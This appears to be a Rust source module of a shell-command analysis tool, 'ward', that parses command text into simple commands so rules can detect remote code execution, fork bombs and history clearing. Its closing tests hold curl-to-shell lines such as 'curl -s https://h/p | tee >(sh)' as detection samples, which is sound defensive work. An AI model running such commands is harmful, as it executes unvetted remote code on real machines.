//! Shell text → the simple commands it would run.
//!
//! [`syntax`] gives a tree in tree-sitter-bash's shape, even for malformed
//! input (a hand-written parser for the everyday subset, tree-sitter-bash for
//! the rest); [`parse`] walks it into [`SimpleCommand`]s through pipelines, lists, subshells, substitutions,
//! heredocs, wrappers and nested `sh -c` strings, with bounded depth and work.

mod bomb;
mod effects;
mod escapes;
pub mod flags;
mod flow;
mod generated;
mod gitcmd;
mod hidden;
mod launchers;
mod netshell;
mod normalize;
mod options;
mod reading;
mod redirects;
mod remote;
mod script_patterns;
mod scripts;
pub mod syntax;
mod text;
pub mod word;

use crate::action::{Arg, CommandLine, Problem, Redirect, SimpleCommand, Stdin, Text};
use reading::{literal, push_split};
use syntax::{Field, Kind, Node};

/// The largest command text ward parses (1 MiB).
pub const MAX_INPUT: usize = 1 << 20;
/// How deep the syntax tree may nest before ward stops following it.
pub const MAX_DEPTH: usize = 64;
/// How many levels of `sh -c`/`eval` strings ward parses recursively.
pub const MAX_LEVEL: usize = 8;
/// How many simple commands one line may produce.
pub const MAX_COMMANDS: usize = 4096;

fn parse_tree(text: &str, spare: Option<syntax::Tree>) -> Option<syntax::Tree> {
    syntax::parse_reusing(text, spare)
}

/// Parses `text` into the simple commands it would run. Never panics; what
/// cannot be understood is listed in [`CommandLine::problems`].
pub fn parse(text: &str) -> CommandLine {
    let mut line = CommandLine {
        raw: text.to_owned(),
        ..CommandLine::default()
    };
    let unescaped = match check_input(text) {
        Ok(unescaped) => unescaped,
        Err(problem) => {
            line.problems.push(problem);
            return line;
        }
    };
    let mut walker = Walker::default();
    // `text` passed `check_input` above: walk it without asking again.
    walker.walk_text(text, 0, unescaped);
    line.commands = walker.out;
    line.problems = walker.problems;
    line
}

/// Parses raw bytes: invalid UTF-8 is a problem, not a panic.
pub fn parse_bytes(bytes: &[u8]) -> CommandLine {
    match std::str::from_utf8(bytes) {
        Ok(text) => parse(text),
        Err(_) => CommandLine {
            raw: String::from_utf8_lossy(bytes).into_owned(),
            commands: Vec::new(),
            problems: vec![Problem::BadInput("the command is not valid UTF-8".into())],
        },
    }
}

/// Builds a command line from an argv vector (`ward exec`, shims): the words
/// are already split, so no shell parsing happens for the top level.
pub fn from_argv(argv: &[String]) -> CommandLine {
    let raw = argv
        .iter()
        .map(|a| render_word(a))
        .collect::<Vec<_>>()
        .join(" ");
    let mut line = CommandLine {
        raw,
        ..CommandLine::default()
    };
    if argv.is_empty() {
        line.problems
            .push(Problem::BadInput("no program was given".into()));
        return line;
    }
    if argv.iter().any(|a| a.contains('\0')) {
        line.problems
            .push(Problem::BadInput("an argument contains a NUL byte".into()));
        return line;
    }
    let mut walker = Walker::default();
    let words = argv.iter().map(Arg::lit).collect();
    walker.emit(words, SimpleCommand::default(), 0);
    line.commands = walker.out;
    line.problems = walker.problems;
    line
}

/// Quotes a word for display, so a rendered line can be pasted into a shell.
pub fn render_word(word: &str) -> String {
    let mut out = String::with_capacity(word.len() + 2);
    push_rendered(&mut out, word);
    out
}

/// Appends the words to `out` as [`render_word`] writes them,
/// separated by blanks (no word is built on its own).
pub(crate) fn push_joined(out: &mut String, words: &[Arg]) {
    for (i, a) in words.iter().enumerate() {
        if i > 0 {
            out.push(' ');
        }
        push_rendered(out, &a.text);
    }
}

/// [`render_word`] appended to `out`.
pub(crate) fn push_rendered(out: &mut String, word: &str) {
    if !word.is_empty()
        && word
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"-_./=:,+@%^".contains(&b))
    {
        out.push_str(word);
    } else {
        out.push('\'');
        for (j, part) in word.split('\'').enumerate() {
            if j > 0 {
                out.push_str("'\\''");
            }
            out.push_str(part);
        }
        out.push('\'');
    }
}

/// The value of a `'…'` word: its text between the quotes.
fn raw_string(text: &str) -> &str {
    text.strip_prefix('\'')
        .and_then(|t| t.strip_suffix('\''))
        .unwrap_or(text)
}

/// Whether ward reads `text`: `Ok` with whether it holds no backslash
/// ([`Src::unescaped`]), or the problem that stops it.
fn check_input(text: &str) -> Result<bool, Problem> {
    if text.len() > MAX_INPUT {
        return Err(Problem::BadInput(format!(
            "the command is {} bytes, more than ward reads ({MAX_INPUT})",
            text.len()
        )));
    }
    let b = text.as_bytes();
    let (nul, backslash) = if b.len() <= SHORT_TEXT {
        // A nested `sh -c` string is mostly a few bytes: one pass for both
        // bytes costs less than the two `memchr` calls (~70 instructions
        // each, most of it setting up).
        b.iter().fold((false, false), |(n, s), &c| {
            (n | (c == 0), s | (c == b'\\'))
        })
    } else {
        // The crate's `memchr` reads a 4 KB line many bytes at a time;
        // `str::contains` read it byte by byte (~1 instruction a byte).
        (
            memchr::memchr(0, b).is_some(),
            memchr::memchr(b'\\', b).is_some(),
        )
    };
    if nul {
        return Err(Problem::BadInput("the command contains a NUL byte".into()));
    }
    Ok(!backslash)
}

/// How long a text [`check_input`] reads byte by byte rather than with `memchr`.
const SHORT_TEXT: usize = 32;

/// Walks syntax trees, collecting simple commands and problems.
#[derive(Default)]
pub(crate) struct Walker {
    pub(crate) out: Vec<SimpleCommand>,
    pub(crate) problems: Vec<Problem>,
    /// Names the line redefines (`alias`, `hash -p`, `enable -n`).
    pub(crate) names: normalize::Names,
    /// The whole-line dataflow state (files, descriptors, variables).
    pub(crate) flow: flow::Flow,
    /// The name and input of the last command whose process-substitution
    /// feed was not worked out yet: see [`Walker::note_proc_feed`].
    feed_name: Text,
    feed_stdin: Option<Stdin>,
    /// Whether `feed_name` is newer than `flow.proc_feed`.
    feed_pending: bool,
    /// Trees no longer read, kept for their buffers: one for each level of
    /// nested parses reached (a parse nested in a nested one finds one too).
    spare_trees: Vec<syntax::Tree>,
    /// A buffer for the commands found inside one being emitted, kept for
    /// its capacity: one allocation per line instead of one per command
    /// hiding another.
    spare_nested: Vec<effects::Nested>,
}

/// The text being walked, and how deep in nested parses it sits.
#[derive(Clone, Copy)]
struct Src<'t> {
    text: &'t str,
    level: usize,
    /// Whether `text` holds no backslash: then a word is its own value
    /// when its first byte is ASCII, with no byte of it to read.
    unescaped: bool,
}

impl Src<'_> {
    fn of(&self, node: Node<'_>) -> &str {
        self.text.get(node.byte_range()).unwrap_or_default()
    }

    /// [`word::is_plain`] for a word of this text.
    #[inline(always)]
    fn is_plain(&self, word: &str) -> bool {
        if self.unescaped {
            word.as_bytes().first().is_none_or(u8::is_ascii)
        } else {
            word::is_plain(word)
        }
    }
}

impl Walker {
    pub(crate) fn problem(&mut self, p: Problem) {
        if !self.problems.contains(&p) {
            self.problems.push(p);
        }
    }

    /// Records what a process substitution in `name`'s words would read
    /// (`tee >(sh)`). Most commands have none: the name and input are kept
    /// and the feed worked out only when one is read. That gives the same
    /// feed as working it out now, since only a file input (`< f`) makes it
    /// depend on the dataflow state, which changes as the walk goes on.
    fn note_proc_feed(&mut self, name: &Text, stdin: Option<&Stdin>) {
        if matches!(stdin, Some(Stdin::File { .. })) {
            self.feed_pending = false;
            self.feed_stdin = None;
            self.set_proc_feed(name, stdin);
        } else {
            self.feed_name.clone_from(name);
            // Most commands read no pipe, after one that read none either.
            if stdin.is_some() || self.feed_stdin.is_some() {
                self.feed_stdin = stdin.cloned();
            }
            self.feed_pending = true;
        }
    }

    /// What `>(…)` reads: the feed of the command whose words hold it.
    fn proc_feed(&mut self) -> Option<Stdin> {
        if self.feed_pending {
            self.feed_pending = false;
            let name = std::mem::take(&mut self.feed_name);
            let stdin = self.feed_stdin.take();
            self.set_proc_feed(&name, stdin.as_ref());
            self.feed_name = name;
        }
        self.flow.proc_feed.clone()
    }

    /// Parses `text` (a whole line, or a nested `sh -c` string) and walks it.
    pub(crate) fn parse_into(&mut self, text: &str, level: usize) {
        if level > MAX_LEVEL {
            self.problem(Problem::TooDeep);
            return;
        }
        match check_input(text) {
            Ok(unescaped) => self.walk_text(text, level, unescaped),
            Err(_) if level > 0 && text.trim().is_empty() => {}
            Err(p) => self.problem(p),
        }
    }

    /// Parses `text`, which passed [`check_input`] (which found whether it
    /// is `unescaped`), and walks it.
    fn walk_text(&mut self, text: &str, level: usize, unescaped: bool) {
        let Some(tree) = parse_tree(text, self.spare_trees.pop()) else {
            self.problem(Problem::Unparseable(snippet(text)));
            return;
        };
        if level == 0 {
            // Room for the line's commands and as many nested ones: a long
            // line's list is not copied as it grows (each copy also made
            // glibc sweep its freed small blocks). 1.5 times was too few for
            // a line of commands hidden in options (120 → 200), whose one
            // copy of ~40 KB cost 2% of its parse.
            let commands = tree.commands();
            self.out.reserve((2 * commands + 8).min(MAX_COMMANDS));
        }
        let root = tree.root_node();
        let src = Src {
            text,
            level,
            unescaped,
        };
        if root.has_error() {
            let near = first_error(root)
                .map(|n| src.of(n).to_owned())
                .unwrap_or_default();
            self.problem(Problem::Unparseable(snippet(if near.is_empty() {
                text
            } else {
                &near
            })));
        }
        self.visit(root, src, 0, &mut None);
        // The next parse (a nested `sh -c` string, say) builds in its room.
        self.spare_trees.push(tree);
    }

    fn visit(&mut self, node: Node<'_>, src: Src<'_>, depth: usize, stdin: &mut Option<Stdin>) {
        if self.out.len() >= MAX_COMMANDS {
            self.problem(Problem::TooManyCommands);
            return;
        }
        if depth > MAX_DEPTH {
            self.problem(Problem::TooDeep);
            return;
        }
        match node.kind_id() {
            Kind::LIST => self.list(node, src, depth, stdin),
            Kind::COMMAND => {
                // `… | (cd /tmp && bash)`: a command that never reads its
                // input leaves it to the next one of the group.
                // Most commands read no pipe: their name is not looked up.
                let input = if stdin.is_none() {
                    None
                } else if node
                    .child_by_field(Field::NAME)
                    .is_some_and(|n| flow::ignores_stdin(src.of(n)))
                {
                    stdin.clone()
                } else {
                    stdin.take()
                };
                self.command(node, src, depth, Vec::new(), input, &[]);
            }
            Kind::REDIRECTED_STATEMENT => self.redirected(node, src, depth, stdin),
            Kind::PIPELINE => self.pipeline(node, src, depth, stdin),
            Kind::FUNCTION_DEFINITION => {
                self.flow.cond += 1;
                self.function(node, src, depth);
                self.flow.cond -= 1;
            }
            // `X=$(curl …)` feeds the dataflow; `export GIT_SSH_COMMAND='…'`,
            // `PAGER=… ;`: commands held in variables.
            Kind::VARIABLE_ASSIGNMENT => self.variable_assignment(node, src, depth),
            Kind::WHILE_STATEMENT
            | Kind::C_STYLE_FOR_STATEMENT
            | Kind::FOR_STATEMENT
            | Kind::IF_STATEMENT
            | Kind::CASE_STATEMENT => {
                if bomb::endless_loop_with_jobs(node, src.text) {
                    self.out.push(SimpleCommand {
                        program: "while".into(),
                        effects: vec![crate::action::Effect::ForkBomb],
                        ..SimpleCommand::default()
                    });
                }
                self.flow.cond += 1;
                for child in node.named_children() {
                    self.visit(child, src, depth + 1, stdin);
                }
                self.flow.cond -= 1;
            }
            // `unset HISTFILE`: a command of its own for the rules to see.
            Kind::UNSET_COMMAND => {
                let mut words = vec![Arg::lit("unset".to_owned())];
                for child in node.named_children() {
                    let arg = self.word(child, src, depth + 1);
                    words.push(arg);
                }
                self.emit(words, SimpleCommand::default(), src.level);
            }
            Kind::COMMENT => {}
            Kind::STRING
            | Kind::CONCATENATION
            | Kind::SIMPLE_EXPANSION
            | Kind::EXPANSION
            | Kind::RAW_STRING
            | Kind::ANSI_C_STRING
            | Kind::WORD => {
                self.word(node, src, depth);
            }
            _ if matches!(
                node.kind(),
                "heredoc_body" | "heredoc_start" | "heredoc_end"
            ) => {}
            _ => {
                for child in node.named_children() {
                    self.visit(child, src, depth + 1, stdin);
                }
            }
        }
    }

    /// A standalone `NAME=value`: kept out of [`Walker::visit`], whose
    /// frame every node pays for.
    #[inline(never)]
    fn variable_assignment(&mut self, node: Node<'_>, src: Src<'_>, depth: usize) {
        let name = node
            .child_by_field_name("name")
            .map(|n| src.of(n).to_owned());
        let mut value = match node.child_by_field_name("value") {
            Some(v) => self.word(v, src, depth + 1),
            None => Arg::lit(String::new()),
        };
        let value_kind = node.child_by_field_name("value").map(|v| v.kind());
        if value_kind == Some("array") || src.of(node).contains("+=") {
            value.dynamic = true;
        }
        if let Some(name) = name {
            self.assign(&name, &value);
        }
        self.assigned(src.of(node), src.level);
    }

    /// `a && b && c` nests one `list` node per operator, to the left: walk
    /// the chain in a loop, so a long flat chain is bounded by how many
    /// commands it runs (`MAX_COMMANDS`), not by nesting depth.
    fn list(&mut self, node: Node<'_>, src: Src<'_>, depth: usize, stdin: &mut Option<Stdin>) {
        // The right-hand parts of each level, outermost first, in one run;
        // `starts` holds where each level's parts begin in it.
        let mut rights: Vec<Node<'_>> = Vec::new();
        let mut starts: Vec<usize> = Vec::new();
        let mut head = node;
        let first = loop {
            let mut kids = head.named_children();
            let Some(first) = kids.next() else {
                break None;
            };
            starts.push(rights.len());
            rights.extend(kids);
            if first.kind() != "list" {
                break Some(first);
            }
            head = first;
        };
        // Innermost level first, each level's parts in order.
        let inner = (0..starts.len()).rev().flat_map(|level| {
            let from = starts.get(level).copied().unwrap_or_default();
            let to = starts.get(level + 1).copied().unwrap_or(rights.len());
            rights.get(from..to).unwrap_or_default()
        });
        let parts = first.into_iter().chain(inner.copied());
        for part in parts {
            self.visit(part, src, depth + 1, stdin);
            if self.out.len() >= MAX_COMMANDS {
                self.problem(Problem::TooManyCommands);
                return;
            }
        }
    }

    fn pipeline(&mut self, node: Node<'_>, src: Src<'_>, depth: usize, stdin: &mut Option<Stdin>) {
        let mut feed = stdin.take();
        let mut stages = node
            .named_children()
            .filter(|c| c.kind_id() != Kind::COMMENT)
            .peekable();
        while let Some(child) = stages.next() {
            let before = self.out.len();
            self.visit(child, src, depth + 1, &mut feed);
            // What the last stage prints leaves the pipeline: `feed` only
            // reads, so it is worked out for the stages that are read.
            if stages.peek().is_some() {
                feed = self.feed(before);
            }
        }
    }

    fn function(&mut self, node: Node<'_>, src: Src<'_>, depth: usize) {
        let name = node
            .child_by_field_name("name")
            .map(|n| src.of(n).to_owned())
            .unwrap_or_default();
        let Some(body) = node.child_by_field_name("body") else {
            return;
        };
        self.names.define_function(&name, src.of(body));
        let before = self.out.len();
        self.visit(body, src, depth + 1, &mut None);
        let calls_self = self
            .out
            .get(before..)
            .unwrap_or_default()
            .iter()
            .any(|c| c.program == name);
        let calls: Vec<String> = self
            .out
            .get(before..)
            .unwrap_or_default()
            .iter()
            .map(|c| c.program.to_string())
            .collect();
        self.flow
            .funcs
            .push((name.clone(), calls, bomb::concurrent(body)));
        let mutual = bomb::recursive_with_jobs(&self.flow.funcs, &name);
        let body_text = src.of(body);
        if mutual || calls_self && (body_text.contains('|') || body_text.contains('&')) {
            self.out.push(SimpleCommand {
                program: name.as_str().into(),
                effects: vec![crate::action::Effect::ForkBomb],
                ..SimpleCommand::default()
            });
        }
    }

    fn command(
        &mut self,
        node: Node<'_>,
        src: Src<'_>,
        depth: usize,
        redirects: Vec<Redirect>,
        stdin: Option<Stdin>,
        extra: &[Node<'_>],
    ) {
        let mut words = Vec::with_capacity(node.child_count());
        let mut extra = extra.to_vec();
        let mut template = SimpleCommand {
            redirects,
            stdin,
            ..SimpleCommand::default()
        };
        for child in node.children() {
            match child.field() {
                Some(Field::NAME) => {
                    let word = child.named_child(0).unwrap_or(child);
                    if let Some(name) = literal(word, src, depth) {
                        self.note_proc_feed(&name.text, template.stdin.as_ref());
                        words.push(name);
                    } else {
                        let name = self.word_read(word, src, depth);
                        self.note_proc_feed(&name.text, template.stdin.as_ref());
                        push_split(&mut words, src, word, name);
                    }
                }
                Some(Field::ARGUMENT) => {
                    // A word that is its own value splits into nothing.
                    if let Some(arg) = literal(child, src, depth) {
                        words.push(arg);
                    } else {
                        let arg = self.word_read(child, src, depth);
                        push_split(&mut words, src, child, arg);
                    }
                }
                Some(Field::REDIRECT) => match child.kind_id() {
                    Kind::HERESTRING_REDIRECT => {
                        let text = child
                            .named_child(0)
                            .map(|w| self.word(w, src, depth).text.into_string());
                        template.stdin = Some(Stdin::Here {
                            text: text.unwrap_or_default(),
                        });
                    }
                    Kind::FILE_REDIRECT => {
                        if let Some(r) = self.file_redirect(child, src, depth, &mut extra) {
                            template.redirects.push(r);
                        }
                    }
                    _ => {}
                },
                _ if child.kind_id() == Kind::VARIABLE_ASSIGNMENT => {
                    if let Some(value) = child.child_by_field_name("value") {
                        self.word(value, src, depth);
                    }
                    template.assignments.push(src.of(child).to_owned());
                }
                _ => {}
            }
        }
        for word in extra {
            words.push(self.word(word, src, depth));
        }
        if !words.is_empty() {
            self.emit(words, template, src.level);
        }
    }
}

fn first_error(node: Node<'_>) -> Option<Node<'_>> {
    let mut stack = vec![node];
    while let Some(n) = stack.pop() {
        if n.is_error() || n.is_missing() {
            return Some(n);
        }
        if n.has_error() {
            let children: Vec<_> = n.children().collect();
            stack.extend(children.into_iter().rev());
        }
    }
    None
}

fn snippet(text: &str) -> String {
    let t = text.trim();
    match t.char_indices().nth(40) {
        Some((i, _)) => format!("{}…", t.get(..i).unwrap_or_default()),
        None => t.to_owned(),
    }
}

#[cfg(test)]
mod tests;

#[cfg(test)]
mod feed_tests {
    //! What `>(…)` reads is worked out only when one is read; these pin that
    //! it is still the feed of the last command named before it.
    use super::parse;
    use crate::action::Effect;

    fn runs_remote(line: &str, program: &str) -> bool {
        parse(line).commands.iter().any(|c| {
            c.program == program
                && c.effects
                    .iter()
                    .any(|e| matches!(e, Effect::RunsRemoteCode { .. }))
        })
    }

    #[test]
    fn a_piped_command_feeds_its_own_process_substitution() {
        assert!(runs_remote("curl -s https://h/p | tee >(sh)", "sh"));
        assert!(!runs_remote("cat notes.txt | tee >(sh)", "sh"));
    }

    #[test]
    fn a_redirection_of_a_group_reads_the_last_command_named() {
        assert!(runs_remote(
            "curl -s https://h/p | cat; { :; } > >(sh)",
            "sh"
        ));
        assert!(!runs_remote("echo hi; { :; } > >(sh)", "sh"));
    }

    #[test]
    fn a_file_input_is_read_where_the_command_is() {
        assert!(runs_remote(
            "curl -so dl.sh https://h/p; tee >(sh) < dl.sh",
            "sh"
        ));
    }
}
